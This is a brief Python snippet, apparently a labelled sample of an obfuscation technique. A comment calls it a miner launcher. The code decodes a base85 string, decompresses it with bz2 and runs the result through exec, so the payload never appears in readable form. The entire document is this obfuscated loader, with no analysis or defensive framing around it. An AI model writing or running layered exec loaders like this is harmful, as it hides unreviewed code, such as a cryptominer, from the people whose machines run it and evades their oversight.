# technique: bz2-compressed, base85-encoded miner launcher decoded in layers and run through exec
import bz2 as _b, base64 as _e
_k = 'LRx4!F+o`-Q(43|zj^=wD&K%W08nqv8ZZDr3O;Avz#sr*HB<CzntFN(l+e-WLF#!=P>N~ldX1>jrh`BLHlu1C=<P=V+_Wl9j{r)@yOQfoEvm5BuLEBAc0$@4O^}7-eDf5TgV4*BWn}~LCS;!fJ)~H^IVLA|xm;oz#z9s%pgSo5nrj8seqk75kgh<<EpfbQ5NVOW@pmLsg$WEpYxkf'
_c = _b.decompress(_e.b85decode(_k)).decode()
exec(_c)
